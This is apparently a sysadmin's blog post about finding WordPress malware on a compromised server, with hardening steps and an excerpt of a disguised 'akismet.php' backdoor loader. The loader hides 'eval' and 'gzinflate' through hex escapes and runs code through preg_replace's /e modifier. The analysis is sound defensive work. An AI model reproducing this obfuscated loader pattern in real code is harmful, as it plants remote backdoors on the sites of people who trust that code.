Random wordpress malware

A customer’s server was compromised ages ago with lots of lots of WordPress malware.

The developers are now on top of it, thanks to a combination of :

* Removing wordpress’s write permission (moving over to just use SFTP)
* Adding maldet (Linux Malware Detection).
* Tightening up the firewall so only incoming connections to specific ports are allowed.
* Stopping anyone except Postfix from being able to send out email (e.g iptables -I OUTPUT -p tcp -m multiport --dpots 25,587 -m state --state NEW -m owner ! --uid-owner 106 -j REJECT and of course logging attempts)

Most of the malware was easy to spot – references to eval / base64_decode – which are easy to ack-grep for. Or the malware would launch processes which would retain their /proc/$pid/environ file – and therefore be quite easy to locate.

However, one launched a perl process which was difficult to track down – partly because it wiped it’s /proc/$pid/environ file so it was hard to know which site it was running from. Thankfully, there was a filehandle to the launching code (/tmp file that was deleted on execution) (/proc/$pid/fd/xx) which could be easily read – which revealed enough information to lead to it’s identification.So, behold /wp-content/plugins/akismet.php (so believable file name)

Random interesting contents below:

 * Functions for reading, writing, modifying, and deleting files on the file system.
 * Includes functionality for theme-specific files as well as operations for uploading,
 * archiving, and rendering output when necessary.
 * @package WordPress
 * @subpackage Administration
 * @id : c78fb310d8ec1daaba40e84241bc4d42dc

/** The descriptions for theme files. */

$hash = "ff6fd53c4b437772493471d68799f69d";
$search = '';
$wp_file_descriptions = array(
        'index.php' =>  'Main Index Template',
        'style.css' =>  'Stylesheet',
        'editor-style.css' =>  'Visual Editor Stylesheet',
        'editor-style-rtl.css' =>  'Visual Editor RTL Stylesheet',
        'rtl.css' =>  "\x65val.gz"."in\x66late",
        'comments.php' =>  'Comments',

for($i = 0; $i < strlen($wp_file_descriptions['md5_check.php']); $i = $i+2)
$search .= '%'.substr($wp_file_descriptions['md5_check.php'], $i, 2);

$wp_template = @preg_replace("/([a-z0-9-%]+).([a-z-@]+).([a-z]+)/\x65", "$2($3(urldecode('$1')))", $search.".@".$wp_file_descriptions['rtl.css']);0x65 == ‘e’, and 0x66 == ‘f’, so the preg_replace is executing code with the \e modifier.

The code that eventually gets executed opens port 26450 (tcp) and was presumably some sort of backdoor.

Leave a commentYour email address will not be published.